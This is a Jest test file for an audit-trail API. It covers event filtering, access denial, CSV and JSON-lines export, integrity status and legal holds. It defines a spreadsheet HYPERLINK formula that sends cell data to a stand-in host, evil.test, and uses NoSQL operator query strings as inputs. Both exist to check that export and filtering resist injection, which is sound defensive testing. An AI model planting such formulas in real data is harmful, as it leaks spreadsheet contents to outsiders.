import { TestMongo } from '@builder-insights/backend-mongo/testUtils';
import type { AuditEvent } from '@builder-insights/plugin-access-common';
import type { TestPerson } from '../__testUtils__/TestPerson';
import { TestPortal } from '../__testUtils__/TestPortal';

jest.setTimeout(60_000);

const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"open")';

/** What the test itself grants; the start has granted what configuration names. */
const byAdmin = { action: 'role-grant', actor: 'user:default/admin' };

describe.each(TestMongo.engines())('audit trail on %s', engine => {
  let portal: TestPortal;
  let auditor: TestPerson;

  const events = async (query: object): Promise<AuditEvent[]> =>
    (await auditor.get('/audit/events', query)).body.items;

  beforeAll(async () => {
    portal = await TestPortal.start(engine);
    auditor = await portal.person('auditor');
    const admin = await portal.person('admin');
    for (const name of ['head', 'employee', 'partner']) {
      await admin.post('/grants', {
        role: 'product-partner',
        subjectRef: `user:default/${name}`,
        scopeRef: 'component:default/atlas-search',
        reason: FORMULA,
      });
    }
  });

  afterAll(() => portal.stop());

  it('shows auditors what was done, newest first, page by page and by every filter', async () => {
    const first = await auditor.get('/audit/events', {
      ...byAdmin,
      limit: 2,
    });
    expect(first.body.items.map(({ target }: AuditEvent) => target)).toEqual([
      'user:default/partner',
      'user:default/employee',
    ]);
    const second = await auditor.get('/audit/events', {
      ...byAdmin,
      limit: 2,
      cursor: first.body.nextCursor,
    });
    expect(second.body.items).toMatchObject([{ target: 'user:default/head' }]);
    expect(second.body.nextCursor).toBeUndefined();

    const [grant] = first.body.items;
    for (const query of [
      { target: 'user:default/partner' },
      { actor: 'user:default/admin', action: 'role-grant' },
      { severity: 'high', outcome: 'success', plugin: 'access' },
      { correlationId: grant.correlationId },
      { from: grant.at },
    ]) {
      expect(await events(query)).toContainEqual(grant);
    }
    expect(await events({ to: '2020-01-01T00:00:00Z' })).toEqual([]);
  });

  it.each(['employee', 'manager', 'admin', 'platform-owner'])(
    'tells %s neither an event nor how many there are',
    async name => {
      const person = await portal.person(name);
      for (const path of [
        '/audit/events',
        '/audit/status',
        '/audit/export?format=csv',
        '/audit/holds',
        '/evidence',
      ]) {
        const [route, query] = path.split('?');
        const answer = await person.get(route, query);
        expect(answer.status).toBe(403);
        expect(answer.body).toEqual({
          error: {
            name: 'NotAllowedError',
            message:
              'You need the permission access.audit.read to read the audit trail: auditors may; an admin can grant you a role that has it',
          },
          request: expect.any(Object),
          response: { statusCode: 403 },
        });
      }
    },
  );

  it('P2 refuses a cursor of other filters', async () => {
    const { nextCursor } = (
      await auditor.get('/audit/events', { action: 'role-grant', limit: 1 })
    ).body;
    const other = await auditor.get('/audit/events', { cursor: nextCursor });
    expect([other.status, other.message]).toEqual([
      400,
      expect.stringMatching(/does not belong to this list/),
    ]);
  });

  it.each(['actor[$ne]=x', 'from[$gt]=', 'limit=201', 'outcome=maybe'])(
    'I1 refuses the filter %s',
    async query => {
      expect((await auditor.get('/audit/events', query)).status).toBe(400);
    },
  );

  it('I2 exports CSV in which nothing is a formula, with who made it and when', async () => {
    const { text, headers } = await auditor.get('/audit/export', {
      format: 'csv',
      ...byAdmin,
    });
    expect(headers['content-type']).toMatch(/^text\/csv/);
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="audit-\d{14}-[0-9a-f]{8}\.csv"$/,
    );
    const lines = text.split('\r\n');
    expect(lines[0]).toMatch(
      /^exportedBy,user:default\/auditor,exportedAt,2.*,filterHash,[0-9a-f]{64},mostRows,50000$/,
    );
    expect(lines[1]).toMatch(/^at,plugin,action/);
    expect(lines).toHaveLength(7);
    expect(lines[5]).toBe('rows,3,complete,yes');
    expect(text).not.toMatch(/(^|[,\n])"?[=+\-@]/m);
  });

  it('exports JSON lines, and is itself recorded before and after', async () => {
    const { text, headers } = await auditor.get('/audit/export', {
      format: 'jsonl',
      action: 'role-grant',
    });
    expect(headers['content-type']).toMatch(/^application\/jsonl/);
    const [mark, ...rest] = text
      .trim()
      .split('\n')
      .map(line => JSON.parse(line));
    const granted = await events({ action: 'role-grant' });
    expect(rest.slice(0, granted.length)).toEqual(granted);
    const [event] = await events({ action: 'audit-export', limit: 1 });
    expect(event).toMatchObject({
      outcome: 'success',
      severity: 'high',
      meta: {
        format: 'jsonl',
        filters: { action: 'role-grant' },
        filterHash: mark.export.filterHash,
        rows: 7,
      },
    });
  });

  it('says that the chains are intact', async () => {
    const { body } = await auditor.get('/audit/status');
    expect(body).toMatchObject({ state: 'intact', findings: [], buffered: 0 });
    expect(body.events).toBeGreaterThan(3);
  });

  it('places and releases a hold, each with an event', async () => {
    const placed = await auditor.post('/audit/holds', {
      reason: 'An inquiry into November',
      from: '2026-11-01T00:00:00+01:00',
      to: '2026-12-01T00:00:00Z',
    });
    expect(placed.body).toMatchObject({
      placedBy: 'user:default/auditor',
      from: '2026-10-31T23:00:00.000Z',
    });
    const { id } = placed.body;
    const released = await auditor.post(`/audit/holds/${id}/release`);
    expect(released.body).toMatchObject({ releasedBy: 'user:default/auditor' });
    const again = await auditor.post(`/audit/holds/${id}/release`);
    expect(again.status).toBe(409);
    expect((await auditor.get('/audit/holds')).body.items).toEqual([
      released.body,
    ]);
    expect(await events({ action: 'audit-hold-release' })).toMatchObject([
      { outcome: 'failure' },
      { outcome: 'success', target: id },
    ]);
    const backwards = await auditor.post('/audit/holds', {
      reason: 'The wrong way round',
      from: '2026-12-01T00:00:00Z',
      to: '2026-11-01T00:00:00Z',
    });
    expect(backwards.message).toMatch(/to .*must be later than from/);
  });
});
